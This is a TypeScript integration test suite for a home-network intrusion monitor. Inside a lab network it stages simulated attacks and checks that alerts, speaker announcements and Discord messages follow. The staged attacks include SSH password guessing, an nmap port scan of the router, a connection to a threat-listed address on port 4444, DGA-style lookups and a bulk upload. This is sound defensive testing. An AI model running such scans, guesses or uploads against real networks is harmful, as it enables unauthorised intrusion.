import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { join } from 'node:path'
import { networkInterfaces } from 'node:os'
import type { Connection } from '../../src/core/observation.ts'
import { openStore } from '../../src/store/open.ts'
import { until } from '../daemon.ts'
import { machinesOf } from '../network.ts'
import { openBrowser } from '../web/browser.ts'
import { type Alert, bad, badAddress, home, type House, openHouse, type Story } from './house.ts'

/** Run on the router of a network that the process with this number has made. */
const pid = Number(process.env['HOUSE_PID'])
const hour = 3_600_000
/** Milliseconds from an act to its message, for what is certain: far more than `bench/house.ts` shows, as a test's machine is busy. */
const soon = 6000
let house: House

before(async () => {
  assert.ok(Object.keys(networkInterfaces()).includes('lan'), 'this runs on the router')
  house = await openHouse(pid, { before: learn })
})
after(async () => house?.[Symbol.asyncDispose]())

/** Sixty hours in which the recorder sent two megabytes each hour. */
async function learn(data: string): Promise<void> {
  const store = await openStore({ folder: data, now: () => new Date() })
  const end = Math.floor(Date.now() / hour) * hour
  const rows = Array.from({ length: 60 }, (_, index): Connection => {
    const [at, bytesOut] = [new Date(end - (60 - index) * hour + 60_000), 2_000_000 + (index % 7) * 50_000]
    const ends = { originator: home.recorder, responder: '198.51.100.7', responderPort: 443 }
    const counts = { bytesOut, bytesIn: 20_000, answered: true }
    return { kind: 'connection', at, flow: `${index}`, state: 'ended', protocol: 'tcp', ...ends, ...counts }
  })
  const mac = await machinesOf(pid).run('recorder', 'cat', '/sys/class/net/eth0/address')
  const first = new Date(end - 61 * hour)
  const presence = { kind: 'presence', at: first, address: home.recorder, mac, via: 'lease' } as const
  await store.events.save({ loop: 'collect/dhcp-leases', observations: [presence], imported: true })
  await store.events.save({ loop: 'collect/conntrack', observations: rows, imported: true })
  await store.baselines.learn(new Date())
  await store.close()
}

const state = (key: string) =>
  house.reader.all.findLast(
    ({ topic }) => topic.startsWith('hearthwarden/') && topic.endsWith(`/${key}/state`),
  )?.payload
const sentences = () =>
  house.speakers.calls.filter(({ service }) => service === 'speak').map(({ data }) => String(data['message']))

/** The alerts that a client of the broker was told of, as they came. */
const happenings = () =>
  house.reader.all
    .filter(({ topic }) => topic.startsWith('hearthwarden/') && topic.endsWith('/alert/state'))
    .map(({ payload }): { alert_id: string; event_type: string } => JSON.parse(payload))

/** So often within ten minutes at most. */
const spokenMost = 3

/** Fails unless each channel shows of an alert what it must: what is high is told, and spoken with these words while the home is not flooded with speech; the rest is not. */
async function isShown({ alert }: Story, words: string): Promise<void> {
  const { id, severity } = alert
  const isHappening = () => happenings().some((one) => one.alert_id === id && one.event_type === severity)
  await house.reader.until(isHappening, `${severity} alert ${id} on the broker`)
  const toldOf = async () => {
    const { story } = await house.daemon.get<Story>(`/api/alerts/${id}`)
    return story.filter(({ what }) => what.startsWith('Told: ')).map(({ what }) => what)
  }
  if (severity !== 'high') {
    assert.deepEqual(await toldOf(), [])
    return
  }
  await house.reader.until(() => state('severity') === 'high' && state('threat') === 'ON', 'severity high')
  const isSpoken = () => sentences().some((one) => one.startsWith('High alert') && one.includes(words))
  await until(() => (isSpoken() || sentences().length >= spokenMost ? true : undefined), {
    seconds: 15,
    what: () => `“${words}” to be spoken: ${JSON.stringify(sentences())}; ${house.daemon.output()}`,
  })
  await until(async () => ((await toldOf()).length > 0 ? true : undefined), {
    seconds: 10,
    what: () => `the story of ${id} to name who was told`,
  })
}

/** How long it took from the act until Discord showed these words. */
async function timed(act: () => Promise<unknown>, words: string): Promise<number> {
  const began = performance.now()
  const [, milliseconds] = await Promise.all([act(), house.told(words).then(() => performance.now() - began)])
  return milliseconds
}

test('a quiet while: names, pages and a login with the right password are nothing', async () => {
  for (let turn = 0; turn < 4; turn += 1)
    for (const machine of ['laptop', 'phone', 'tv'] as const) {
      await house.ask(machine, 'news.example', `picture${turn}.example`, 'mail.example')
      await house.machines.run(
        machine,
        process.execPath,
        '-e',
        `fetch('http://203.0.113.80/').then((page) => page.text())`,
      )
    }
  await house.sshd.guess('laptop', [house.sshd.password])
  await until(async () => ((await totals()).connections >= 4 ? true : undefined), {
    seconds: 20,
    what: () => 'connections to be seen',
  })
  const alerts = await house.daemon.get<Alert[]>('/api/alerts?severity=medium,high')
  assert.deepEqual(alerts, [])
  assert.equal(house.discord.messages().length, 0)
  assert.deepEqual(sentences(), [])
  assert.ok(['none', 'low'].includes(state('severity') ?? ''), state('severity'))
  assert.equal(state('threat'), 'OFF')
})

async function totals(): Promise<{ connections: number }> {
  const { kinds } = await house.daemon.get<{ kinds: { kind: string; rows: number }[] }>('/api/stats')
  return { connections: kinds.find(({ kind }) => kind === 'connection')?.rows ?? 0 }
}

test('a camera looks up a name on the threat list', async () => {
  const milliseconds = await timed(() => house.ask('camera', bad), 'stands on a threat list')
  assert.ok(milliseconds < soon, `told after ${milliseconds} ms`)
  const found = await house.alertOf(home.camera, 'threat-intel')
  assert.equal(found.alert.severity, 'high')
  await isShown(found, 'it was in touch with an address or name on a threat list')
  assert.equal(sentences().join().includes('evil'), false, 'no stranger’s words are spoken')
})

test('the camera connects to an address on the threat list', async () => {
  const dial = `require('node:net').connect(4444, '${badAddress}').on('error', () => undefined)`
  house.machines.start('camera', process.execPath, '-e', dial)
  const listed = async () => {
    const { alert } = await house.alertOf(home.camera, 'threat-intel')
    return alert.signals.find(({ target }) => target === badAddress)
  }
  const found = await until(listed, { seconds: 10, what: () => 'the connection to be told' })
  assert.equal(
    found.summary,
    `Began to talk to ${badAddress} on port 4444: it stands on the threat list "bad"`,
  )
})

test('a laptop guesses passwords of the router, and gets in', async () => {
  const wrong = Array.from({ length: 11 }, (_, index) => `guess${index}`)
  await house.sshd.guess('laptop', wrong)
  await house.told('failed logins')
  const guessed = await house.alertOf(home.laptop, 'brute-force')
  assert.equal(guessed.alert.severity, 'high')
  await isShown(guessed, 'passwords are being guessed')
  const milliseconds = await timed(() => house.sshd.guess('laptop', [house.sshd.password]), 'after')
  const entered = await house.alertOf(home.laptop, 'login-after-failures')
  assert.equal(entered.alert.id, guessed.alert.id, 'one story')
  await isShown(entered, 'somebody got in after many wrong passwords')
  // The act itself takes a while: connecting, keys, the hash of the password.
  assert.ok(milliseconds < soon, `told after ${milliseconds} ms`)
})

test('a phone tries the ports of the router', async () => {
  await house.machines.run(
    'phone',
    'nmap',
    '-sT',
    '-Pn',
    '-n',
    '-T4',
    '--max-retries',
    '0',
    '-p',
    '1-300',
    '192.168.77.1',
  )
  const found = await house.alertOf(home.phone, 'port-scan')
  assert.equal(found.alert.severity, 'high')
  await house.told('ports of 192.168.77.1')
  await isShown(found, 'it looks for ways into other machines')
})

test('a television asks for names made by a program', async () => {
  const letters = 'qwxzkvjhgfdpbtmnlrcs'
  const names = Array.from({ length: 60 }, (_, index) =>
    Array.from(
      { length: 16 },
      (_, at) => letters[(index * 7 + at * at * 3 + ((index * at) % 11)) % letters.length],
    ).join(''),
  )
  for (let from = 0; from < names.length; from += 20)
    await house.ask('tv', ...names.slice(from, from + 20).map((name) => `${name}.net`))
  const found = await house.alertOf(home.tv, 'dga')
  assert.ok(['medium', 'high'].includes(found.alert.severity), found.alert.severity)
  await isShown(found, 'it asks for names that a program seems to make up')
})

test('a stranger joins, with telnet open', async () => {
  const address = '192.168.77.50'
  await house.machines.join('stranger', address)
  house.machines.start('stranger', process.execPath, '-e', `require('node:net').createServer().listen(23)`)
  await until(
    async () => ((await house.machines.run('stranger', 'ss', '-ltn')).includes(':23 ') ? true : undefined),
    { seconds: 10, what: () => 'telnet' },
  )
  const { ok, message } = await house.daemon.post<{ ok: boolean; message: string }>('/api/requests', {
    kind: 'scan',
  })
  assert.equal(ok, true, message)
  const found = await house.alertOf(address, 'risky-port')
  assert.ok(['medium', 'high'].includes(found.alert.severity), found.alert.severity)
  await isShown(found, 'it can be controlled over the network by anybody at home')
  await house.alertOf(address, 'new-device')
})

test('a recorder suddenly sends a hundred megabytes', async () => {
  const send = `const body = Buffer.alloc(1_000_000, 7)
let left = 100
const next = () => left-- > 0 ? fetch('http://203.0.113.80/', { method: 'POST', body }).then((answer) => answer.text()).then(next) : new Promise((resolve) => setTimeout(resolve, 30_000))
next()`
  house.machines.start('recorder', process.execPath, '-e', send)
  const found = await house.alertOf(home.recorder, 'upload')
  assert.ok(['medium', 'high'].includes(found.alert.severity), found.alert.severity)
  await isShown(found, 'it sends far more to the internet than it ever did')
  const signal = found.alert.signals.find(({ detector }) => detector === 'upload')
  assert.ok(Number(signal?.evidence['megabytesOut']) >= 50, JSON.stringify(signal))
})

test('the sensors have counted it', async () => {
  const numbers = () => ['failed_logins_today', 'open_ports', 'connections'].map((key) => Number(state(key)))
  await until(
    () => (numbers().every((number, index) => number >= ([11, 1, 1][index] ?? 0)) ? true : undefined),
    {
      seconds: 75,
      what: () => `the sensors: ${numbers().join()}`,
    },
  )
  assert.ok(state('last_login') !== undefined && state('last_scan') !== undefined)
})

test('a home is not talked to all the time', () => {
  assert.equal(sentences().length, spokenMost, JSON.stringify(sentences()))
})

test('the page tells the stories', async () => {
  for (const [name, address] of Object.entries(home))
    await house.daemon.post(`/api/devices/${address}/name`, {
      label: name.charAt(0).toUpperCase() + name.slice(1),
    })
  const browser = await openBrowser()
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 1000 } })
    page.setDefaultTimeout(15_000)
    await page.goto(`${house.daemon.address}/?token=${house.daemon.token}`)
    await page.getByRole('heading', { level: 1, name: 'Something needs you' }).waitFor()
    const picture = process.env['DRAW_DOCS'] === '1' ? 'docs/home.png' : join(house.folder, 'home.png')
    await page.screenshot({ path: picture, fullPage: true })
    await page
      .getByRole('link', { name: /evil-control\.example/ })
      .first()
      .click()
    await page.getByRole('heading', { level: 1, name: /evil-control\.example/ }).waitFor()
    await page
      .getByText(/^Told: /)
      .first()
      .waitFor()
  } finally {
    await browser.close()
  }
})
